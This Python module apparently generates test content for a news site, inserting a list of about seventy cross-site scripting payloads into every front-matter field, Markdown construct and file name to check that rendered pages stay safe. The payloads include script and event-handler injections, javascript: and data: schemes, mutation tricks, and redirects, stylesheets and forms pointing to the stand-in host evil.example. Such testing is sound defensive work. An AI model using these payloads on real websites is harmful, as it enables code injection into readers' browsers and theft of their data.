"""Texts with which writers of entries could try to run code in readers' browsers, and where they can write them.

Each idea is tried in each place. What gets through calls `fire`, asks another host, or leads elsewhere.
"""

import json
from collections.abc import Mapping

# ruff: noqa: E501
IDEAS: Mapping[str, str] = {
    "script element": "<script>fire()</script>",
    "end of an attribute": '"><script>fire()</script>',
    "end of an attribute in single quotes": "'><img src=x onerror=fire()>",
    "handler in an attribute": '" onmouseover="fire()" onfocus="fire()" autofocus x="',
    "handler in single quotes": "' onmouseover='fire()' x='",
    "handler without quotes": " onmouseover=fire() x=",
    "end of a script": "</script><script>fire()</script>",
    "end of a script with a space": "</script ><script>fire()//",
    "script in an open comment": "<!--<script>fire()</script>",
    "end of a comment": "--><script>fire()</script><!--",
    "odd end of a comment": "--!><img src=x onerror=fire()>",
    "ends of raw texts": "</title></style></textarea></noscript></template><img src=x onerror=fire()>",
    "end of CDATA": "]]><script>fire()</script>",
    "picture": "<img src=x onerror=fire()>",
    "picture with slashes": "<img/src=x/onerror=fire()>",
    "picture in capitals": "<IMG SRC=x OnErRoR=fire()>",
    "picture without an end": "<img src=x onerror=fire() ",
    "set of pictures": '<img srcset="https://evil.example/a.png 1x" onload=fire()>',
    "SVG": "<svg/onload=fire()>",
    "SVG that animates a link": '<svg><a><animate attributeName=href values="javascript:fire()"/><text y=20>x</text></a></svg>',
    "SVG that uses another": '<svg><use href="data:image/svg+xml,<svg id=x onload=fire()>#x"/></svg>',
    "script in SVG": "<svg><script>fire&#40;&#41;</script></svg>",
    "foreign element": "<svg><foreignObject><iframe srcdoc='<script>parent.fire()</script>'></foreignObject></svg>",
    "MathML": '<math><maction actiontype="statusline#x" xlink:href="javascript:fire()">x</maction></math>',
    "mutation by MathML": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=fire()&gt;'>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=fire()>">',
    "mutation by a template": "<template><script>fire()</script></template><select><iframe></select><img src=x onerror=fire()>",
    "frame": '<iframe src="javascript:parent.fire()"></iframe>',
    "document of a frame": '<iframe srcdoc="<script>parent.fire()</script>"></iframe>',
    "object": '<object data="javascript:fire()"></object><embed src="https://evil.example/x">',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "refresh to a script": '0;url=javascript:fire()"><meta http-equiv=refresh content="0;url=data:text/html,x',
    "form": '<form action="https://evil.example/"><input name=q autofocus onfocus=fire()></form>',
    "action of a button": '<button formaction="javascript:fire()">x</button>',
    "style sheet": '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "//evil.example/y.css"</style>',
    "style": '" style="background:url(https://evil.example/x);animation:x 1s" onanimationstart="fire()',
    "end of a rule": "}</style><img src=x onerror=fire()>{a:url(//evil.example/)",
    "details": "<details open ontoggle=fire()><summary>x</summary></details>",
    "film": "<video><source onerror=fire()></video><audio src=x onerror=fire()>",
    "prefetched page": '<link rel=prefetch href="https://evil.example/"><link rel=preload as=script href="//evil.example/">',
    "script scheme": "javascript:fire()",
    "script scheme in capitals": "JaVaScRiPt:fire()",
    "script scheme with a tab": "java\tscript:fire()",
    "script scheme after a control": "\x01javascript:fire()",
    "script scheme in entities": "&#106;avascript&colon;fire()",
    "script scheme in entities twice": "&amp;#106;avascript:fire()",
    "script scheme with a host": "javascript://evil.example/%0Afire()",
    "data scheme": "data:text/html;base64,PHNjcmlwdD5maXJlKCk8L3NjcmlwdD4=",
    "VB scheme": "vbscript:fire()",
    "host alone": "//evil.example/x",
    "host after backslashes": "\\\\evil.example\\x",
    "host with a user": "https://example.org@evil.example/",
    "host in another script": "https://ex\u0430mple.org/\u202egro.elpmaxe",
    "entities": "&lt;script&gt;fire()&lt;/script&gt;",
    "entities twice": "&amp;lt;img src=x onerror=fire()&amp;gt;",
    "percent signs": "%3Cscript%3Efire()%3C/script%3E",
    "escapes of JSON": '\\u003cscript\\u003efire()\\u003c/script\\u003e","x":"',
    "template of Jinja": "{{ [].__class__ }}{% raw %}{# x",
    "template of scripts": "${fire()}{{constructor.constructor('fire()')()}}",
    "line separators": "\u2028fire()\u2029*/fire();//",
    "wide signs": "\uff1cscript\uff1efire()\uff1c/script\uff1e",
    "zero in a tag": "<scr\x00ipt>fire()</scr\x00ipt>",
    "ids of the search page": "<a id=interface></a><img name=getElementById><form id=results name=body><input name=q>",
    "key of all objects": "__proto__",
    "function of all objects": "constructor",
    "direction": "\u202e<\u2066img src=x onerror=fire()>\u2069",
    "link of Markdown": "[x](javascript:fire()) ![x](javascript:fire()) <javascript:fire()>",
    "title of a link": "[x](https://example.org/ '\" onmouseover=\"fire()') [y]: data:text/html,x",
    "address in angles": '<https://example.org/"onmouseover="fire()">',
    "code of Markdown": "`</code><script>fire()</script>` ``` <img src=x onerror=fire()>",
    "wiki link": '[[x" onmouseover="fire()|<img src=x onerror=fire()>]]',
}
"""By the idea, what is written."""

FRONT: Mapping[str, str] = {
    "title": "title: {}",
    "summary": "summary: {}",
    "contexts": "contexts: [{}, oil]",
    "location": "location: {}",
    "status": "status: {}",
    "slug": "slug: {}",
    "lang": "lang: {}",
    "unknown key": "weather: {}",
    "table of an unknown key": "wind: {{{}: {}}}",
    "correction": "correction: {{date: 2011-05-16, note: {}}}",
    "source as text": "sources:\n  - {}",
    "name of a source": "  - {{name: {}, url: 'https://example.org/'}}",
    "address of a source": "  - {{name: A, url: {}}}",
    "archived copy": "  - {{name: B, url: 'https://example.org/', archive_url: {}}}",
    "headline of a source": "  - {{name: C, title: {}}}",
    "author of a source": "  - {{name: D, author: {}}}",
    "text of a picture": "image:\n  url: https://example.org/a.png\n  alt: {}",
    "credit of a picture": "  credit: {}",
}
"""By places in front matter, the lines that say something there."""

BODY: Mapping[str, str] = {
    "paragraph": "Text {} text.",
    "heading": "# Head {}",
    "words of a link": "[words {}](https://example.org/)",
    "address of a link": "[words](<{}>)",
    "path of a link": "[words](https://example.org/{})",
    "title of a link": '[words](https://example.org/ "{}")',
    "code": "`{}`",
    "block of code": "```{0}\n{0}\n```",
    "quotation": "> [!NOTE] {0}\n> {0}",
    "list": "- {}",
    "table": "| a |\n|---|\n| {} |",
    "footnote": "Note[^1].\n\n[^1]: {}",
    "wiki link": "[[oil|{}]]",
    "text of a picture": "![{}](https://example.org/a.png)",
}
"""By places in a text, the Markdown that says something there."""

ELSEWHERE = ("alias", "address of a picture", "name of a file", "topic file", "page", "page form")
"""Places that have files of their own."""


def quoted(text: str) -> str:
    """A text as YAML reads it in double quotes."""
    return json.dumps(text).replace("\x7f", "\\u007F")


def in_markdown(text: str) -> str:
    """A text without what no file holds and what the place around it would end at."""
    return "".join(sign for sign in text if sign == "\t" or sign >= " ")


def files(number: int, attack: str) -> dict[str, str]:
    """The files of a site that say an attack in each place."""
    day = f"content/news/{2001 + number // 25}/03/{number % 25 + 1:02}"
    text, markdown = quoted(attack), in_markdown(attack)
    front = "\n".join(line.format(text, text) for line in FRONT.values())
    body = "\n\n".join(line.format(markdown) for line in BODY.values())
    name = "".join(sign for sign in markdown if sign not in '/\\\x00:*?"<>|').strip(" .")[:60] or "x"
    form = (
        f"### [2011-05-15](/x)\n\n# T{markdown}\n\n{markdown}\n\n### Source:\n\n1. [{markdown}](https://example.org/)\n"
    )
    return {
        f"{day}/places.md": f"---\n{front}\n---\n{body}\n",
        f"{day}/alias.md": f"---\ntitle: Alias {number}\naliases: [{quoted('/old/' + attack)}]\n---\n",
        f"{day}/picture.md": f"---\ntitle: Picture {number}\nimage: {text}\n---\n",
        f"{day}/{name}-{number}.md": "---\ntitle: Name\ncontexts: [oil]\n---\n",
        f"content/topics/topic-{number}.md": f"---\ntitle: {text}\ndescription: {text}\nkind: {text}\naliases: [{text}]\n---\n{markdown}\n",
        f"content/page-{number}.md": f"---\ntitle: {text}\nsummary: {text}\n---\n{markdown}\n",
        f"{day}/form.md": form + f"\n### Related:\n\n1. [{markdown}](/news/x.md) _Context: C{markdown}_\n",
    }
